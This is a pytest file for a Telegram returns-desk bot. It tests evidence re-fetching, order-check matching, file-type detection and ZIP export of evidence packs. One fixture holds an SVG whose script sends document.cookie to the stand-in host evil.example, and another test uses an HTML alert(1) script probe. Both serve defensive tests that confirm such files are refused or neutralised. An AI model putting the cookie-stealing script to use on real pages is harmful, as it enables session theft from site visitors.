"""Bad inputs get a clear answer (issue 12): evidence that could not be stored is fetched again
later, an e-mail with "agent" in it is an order check, an SVG "photo" is no photo, a file is
named for what it is, and the evidence pack is a ZIP."""

from __future__ import annotations

import copy
import hashlib
import io
import json
import logging
import zipfile
from pathlib import Path
from typing import Any

import pytest
from aiogram.client.session.aiohttp import AiohttpSession
from aiogram.methods import SendDocument

from bot.conversations.evidence import ZipDocument
from bot.delivery.evidence_fetch import EvidenceFetcher, telegram_download
from core.cases.model import EvidenceKind
from core.services.orders import import_orders
from tests.support import create_fake_bot
from tests.telegram.conftest import CATALOGS, SAMPLES, World
from tests.telegram.test_bad_values import _adding_photos
from tests.telegram.test_staff import NOVA_SELLER

RU = CATALOGS.get("ru")
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(3000) + b"\xff\xd9"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(2000)
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>fetch('https://evil.example/?c='+document.cookie)</script></svg>"
)


async def _evidence(world: World, number: str) -> list[Any]:
    async with world.core.unit_of_work() as uow:
        case = await uow.cases.get_by_number(number)
    assert case is not None
    return list(case.evidence)


class _Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


# ── evidence that could not be stored is fetched again later ─────────────────────────────────


async def test_a_photo_whose_download_failed_is_fetched_again_by_the_background_job(
    world: World, caplog: pytest.LogCaptureFixture
) -> None:
    dmitri, number = await _adding_photos(world)
    bot = create_fake_bot(world.fake)
    clock = _Clock()
    fetcher = EvidenceFetcher(world.core, telegram_download(bot), monotonic=clock)
    # the case's first two files were recorded without a download: the job fetches them too
    assert await fetcher.run_once() == {"fetched": 2, "failed": 0}
    assert all(e.sha256 for e in await _evidence(world, number))
    world.fake.fail_next(
        "getFile", status=400, description="Bad Request: file is temporarily unavailable"
    )

    await dmitri.send_photo(content=JPEG)

    assert (
        RU.plural(  # the buyer hears nothing of it: the photo is on the case
            "Case {number} has one photo or video.",
            "Case {number} has {n} photos or videos.",
            3,
            number=number,
        )
        in dmitri.last()
    )
    [*_, late] = await _evidence(world, number)
    assert late.file_id is not None and late.sha256 is None  # only Telegram has it for now
    sha = hashlib.sha256(JPEG).hexdigest()
    assert not world.core.evidence.exists(sha)

    try:
        caplog.set_level(logging.INFO, logger="returns_desk.evidence")
        world.fake.fail_next("getFile", status=500, description="Internal Server Error")
        first = await fetcher.run_once()  # Telegram fails once more: it waits a minute
        again = await fetcher.run_once()  # not tried again at once
        clock.now += 61
        third = await fetcher.run_once()
    finally:
        await bot.session.close()

    assert (first, again, third) == (
        {"fetched": 0, "failed": 1},
        {"fetched": 0, "failed": 0},
        {"fetched": 1, "failed": 0},
    )
    [*_, late] = await _evidence(world, number)
    assert late.sha256 == sha and late.size == len(JPEG) and late.mime_type == "image/jpeg"
    assert world.core.evidence.read(sha) == JPEG
    lines = [r.getMessage() for r in caplog.records if r.name == "returns_desk.evidence"]
    assert len(lines) == 2
    assert "not fetched (try 1, next in 60 s)" in lines[0]
    assert "fetched and stored (3013 bytes, image/jpeg)" in lines[1]


# ── an e-mail address typed as the order check is the check ─────────────────────────────────


async def _import_order(world: World, tmp_path: Path, number: str, email: str) -> None:
    sample = json.loads((SAMPLES / "orders.sample.json").read_text(encoding="utf-8"))
    order = copy.deepcopy(next(o for o in sample["orders"] if o["number"] == "AUR-10021"))
    order["number"] = number
    order["buyer"]["email"] = email
    order["buyer"]["telegram_id"] = None
    path = tmp_path / f"{number}.json"
    path.write_text(json.dumps({"format": sample["format"], "orders": [order]}), "utf-8")
    await import_orders(world.core, path)


@pytest.mark.parametrize(
    "email",
    [
        "support.agent@example.com",
        "mensch@firma.de",
        "human@shop.example",
        "Person.Support@Example.ORG",
    ],
)
async def test_an_email_with_a_word_for_a_person_typed_as_the_check_links_the_order(
    world: World, tmp_path: Path, email: str
) -> None:
    await _import_order(world, tmp_path, "AUR-20001", email)
    buyer = world.person(501777, "Sam", "en")
    await buyer.send("my order AUR-20001 arrived broken")
    assert buyer.last().startswith("To protect your order, please type one of these")

    await buyer.send(email)

    assert "Thank you, order AUR-20001 is now linked to this chat." in buyer.seen()
    assert "A person will gladly help" not in buyer.seen()
    order = await world.order("aurora", "AUR-20001")
    async with world.core.unit_of_work() as uow:
        assert order.id is not None and await uow.links.is_linked(order.id, 501777)
    assert buyer.last() == "What happened?"  # and the case goes on


async def test_the_word_agent_alone_at_the_check_still_reaches_a_person(world: World) -> None:
    buyer = world.person(501778, "Sam", "en")
    await buyer.send("my order AUR-10021 arrived broken")

    await buyer.send("agent")

    assert "it goes straight to a support agent" in buyer.last()


# ── what a file really is ──────────────────────────────────────────────────────────────────


async def test_an_svg_sent_as_a_photo_is_refused_as_evidence(world: World) -> None:
    dmitri, number = await _adding_photos(world)

    await dmitri.send_document("photo.svg", "image/svg+xml", SVG)

    assert dmitri.last() == RU("Please send photos or a video here, or press Done.")
    assert len(await _evidence(world, number)) == 2
    assert not world.fake.calls_to("getFile")  # never downloaded


async def test_an_svg_at_opening_gets_the_send_a_photo_answer(world: World) -> None:
    buyer = world.person(501779, "Sam", "en")
    await buyer.send("my order AUR-10021 arrived broken")
    await buyer.send("46004")  # the postal code of the order
    await buyer.press("Arrived damaged")
    assert buyer.last().startswith("Please send a photo of the parcel as it arrived")

    await buyer.send_document("lamp.jpg", "image/svg+xml", SVG)

    assert buyer.last() == "That file is not a photo or a video. Please send photos or videos."
    assert not world.fake.calls_to("getFile")


async def test_a_png_sent_as_jpeg_is_stored_and_exported_as_png_in_a_zip(world: World) -> None:
    dmitri, number = await _adding_photos(world)

    await dmitri.send_document("box.jpg", "image/jpeg", PNG)

    [*_, png] = await _evidence(world, number)
    sha = hashlib.sha256(PNG).hexdigest()
    assert png.sha256 == sha and png.mime_type == "image/png"
    assert png.kind is EvidenceKind.DOCUMENT
    wang = world.person(NOVA_SELLER, "Wang", "en")
    await wang.send(f"/export {number}")
    [sent] = [m for m in world.fake.messages_to(NOVA_SELLER) if "document" in m]
    assert sent["document"]["file_name"] == f"{number}-evidence.zip"
    assert sent["document"]["mime_type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(world.fake.file_bytes(sent["document"]["file_id"])))
    [name] = [n for n in archive.namelist() if sha[:8] in n]
    assert name.endswith(".png") and archive.read(name) == PNG


async def test_a_file_of_no_known_format_is_exported_as_bin_never_svg(world: World) -> None:
    dmitri, number = await _adding_photos(world)
    await dmitri.send_document("scan.jpg", "image/jpeg", b"<html><script>alert(1)</script>")

    [*_, odd] = await _evidence(world, number)
    assert odd.mime_type == "application/octet-stream"
    wang = world.person(NOVA_SELLER, "Wang", "en")
    await wang.send(f"/export {number}")
    [sent] = [m for m in world.fake.messages_to(NOVA_SELLER) if "document" in m]
    archive = zipfile.ZipFile(io.BytesIO(world.fake.file_bytes(sent["document"]["file_id"])))
    assert odd.sha256 is not None
    [name] = [n for n in archive.namelist() if odd.sha256[:8] in n]
    assert name.endswith(".bin")


async def test_the_evidence_pack_goes_over_the_wire_as_application_zip() -> None:
    """aiogram's own HTTP session, as in production: the multipart part's Content-Type."""
    session = AiohttpSession()
    try:
        from aiogram import Bot

        bot = Bot("42:TEST", session=session)
        method = SendDocument(chat_id=1, document=ZipDocument(b"PK\x05\x06" + bytes(18), "R-1"))
        form = session.build_form_data(bot, method)
        writer = form()
        parts = {
            part.headers.get("Content-Disposition", ""): part.headers.get("Content-Type")
            for part, *_ in writer._parts
        }
    finally:
        await session.close()
    [(disposition, content_type)] = [(d, t) for d, t in parts.items() if "filename" in d]
    assert 'filename="R-1.zip"' in disposition
    assert content_type == "application/zip"
